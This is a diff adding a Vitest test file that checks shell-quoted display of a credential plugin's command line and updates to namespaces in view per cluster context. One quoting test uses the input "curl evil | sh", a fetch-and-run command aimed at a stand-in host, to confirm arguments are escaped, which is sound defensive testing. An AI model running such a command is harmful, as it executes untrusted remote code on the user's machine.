@@ -1,0 +1,37 @@
+import { describe, expect, it } from 'vitest';
+import { sampleFile } from '../../preview/samples.ts';
+import { withNamespaces } from '../services/use-namespaces-in-view.ts';
+import { commandLine } from './ContextFacts.tsx';
+
+describe('the command line of a credential plugin', () => {
+  it('is as one would type it', () => {
+    expect(commandLine({ command: '/usr/bin/aws', arguments: ['eks', '--name=blue', 'a/b:c'] })).toBe(
+      '/usr/bin/aws eks --name=blue a/b:c',
+    );
+  });
+
+  it('shows where each argument ends, whatever is in it', () => {
+    expect(commandLine({ command: 'sh', arguments: ['-c', "curl evil | sh; echo 'x'", ''] })).toBe(
+      "sh -c 'curl evil | sh; echo '\\''x'\\''' ''",
+    );
+  });
+});
+
+describe('the namespaces in view', () => {
+  const key = { context: 'test-frankfurt', file: sampleFile };
+  const own = { ...key, agentNamespace: 'tools', agentImage: '', baseImage: '', homeNamespace: 'webshop' };
+  const other = { ...own, context: 'staging-eu', namespacesInView: ['a'] };
+
+  it('change nothing else of the context, and no other context', () => {
+    expect(withNamespaces([{ ...own, namespacesInView: [] }, other], key, ['infra'])).toEqual([
+      other,
+      { ...own, namespacesInView: ['infra'] },
+    ]);
+  });
+
+  it('are kept for a context that had no choices', () => {
+    expect(withNamespaces([], key, ['infra'])).toEqual([
+      { ...key, agentNamespace: '', agentImage: '', baseImage: '', homeNamespace: '', namespacesInView: ['infra'] },
+    ]);
+  });
+});
